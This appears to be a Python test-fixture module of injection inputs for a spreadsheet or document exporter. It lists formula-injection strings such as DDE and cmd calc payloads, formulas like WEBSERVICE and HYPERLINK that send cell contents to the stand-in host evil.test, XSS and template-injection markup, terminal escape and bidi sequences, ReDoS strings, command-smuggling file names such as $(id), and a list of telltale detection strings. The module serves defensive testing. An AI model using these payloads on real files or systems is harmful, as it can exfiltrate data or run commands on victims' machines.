"""Text that is meant to become more than text, and what would tell that it has: one list for every test of injection.

Bad-inputs' classes 29 to 33: formulas, links, markup, what a terminal obeys, what is too long, names that are none.
"""

from __future__ import annotations

__all__ = ["ATTACKS", "FORMULAS", "LINKS", "LONG", "MARKUP", "NAMES", "SLOW", "TELLTALES", "TERMINAL"]

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+2", "\r=1+3", "\n=1+4", " =1+5", "{=1+6}", "＝1+7", "＠SUM(2)", "'=1+8"),
    *('"=1+9"', "=cmd|'/C calc'!A0", "@SUM(1)*cmd|'/C calc'!A0", '=DDE("cmd","/C calc","x")'),
    *('=HYPERLINK("http://evil.test/"&A1,"点击")', '=WEBSERVICE("http://evil.test/?"&A2)'),
    *('=IMPORTXML("http://evil.test","//a")', "='\\\\evil.test\\x\\[a.xlsx]表'!A1", "=[evil.xlsx]表!A1", "%0A=1+1"),
    *(
        "|cmd",
        "*",
        "<>",
        ">0",
        "?*",
        "~",
        "=",
        "_x003D_1+1",
        "#REF!",
        "TRUE",
        "1E9",
        "007",
        "<>*",
    ),
)
LINKS = (
    *("http://evil.test/a", "https://evil.test/b", "ftp://evil.test/c", "file:///evil.test/d"),
    *("external:\\\\evil.test\\e.xlsx#表!A1", "internal:明细!A1", "mailto:a@evil.test", "javascript:alert(1)"),
    *(
        "\\\\evil.test\\share\\f",
        "data:text/html,<script>alert(2)</script>",
    ),
)
MARKUP = (
    *("<script>alert(3)</script>", "</script><script>alert(4)</script>", "<img src=x onerror=alert(5)>"),
    *('"><svg onload=alert(6)>', "' onmouseover='alert(7)", "<!-- <iframe src=http://evil.test/g> -->", "]]>"),
    *("&lt;b&gt;&amp;&#60;i&#62;", "<r><t>x</t></r>", '<c r="A1"><f>1+1</f></c>'),
    *("<w:instrText>INCLUDETEXT http://evil.test/h</w:instrText>", "{{7*7}}", "${7*7}", "{0.__class__}", "{value}"),
    *(
        "%(value)s%n",
        '&P&N&G&"x"&99',
        "_x000D_",
        "$x^2$",
        "</style><style>*{display:none}",
        "\u2028alert(8)\u2029",
    ),
)
TERMINAL = (
    *("\x1b[2J\x1b[31m红", "\x9b31m红", "\x1b]0;题\x07", "\x1b]8;;http://evil.test\x1b\\点\x1b]8;;\x1b\\", "\x08\x08\x08乙"),
    *(
        "甲\r丑",
        "\x85丙",
        "甲\u202e乙\u202c",
        "\u2066丁\u2069",
        "\u200f戊",
        "\u200b己",
        "\x7f庚",
        "\x00辛",
        "\x0b壬",
        "\ufeff癸",
    ),
)
ATTACKS = (*FORMULAS, *LINKS, *MARKUP, *TERMINAL)
"""Short ones, all different."""

LONG = ("长" * 32_768, "😀" * 16_384, "=" + "1+" * 20_000, "a" * 300)
SLOW = (
    *(" " * 32_000 + "x", "9" * 32_000, "（" * 32_000, "a," * 16_000, "-" * 32_000, "\t" * 32_000),
    *("1.1." * 8_000, "年" * 32_000, "甲、" * 16_000),
)
"""What makes a regex crawl that steps back."""

NAMES = (
    *("History", "a[b]c", "a:b", "a/b\\c", "a*b?", "'甲'", "=1+1", "..", "CON", "<b>", "&amp;", "\u202e表", "\x1b[31m表"),
    *(
        "{value}",
        "$(id)",
        "甲!A1",
    ),
    "长" * 60,
)
"""Of sheets and of files, as far as a file system has them."""

TELLTALES = ("evil.test", "calc", "alert(")
"""Words of the attacks that must not stand in a formula, a relation, a script or an address."""
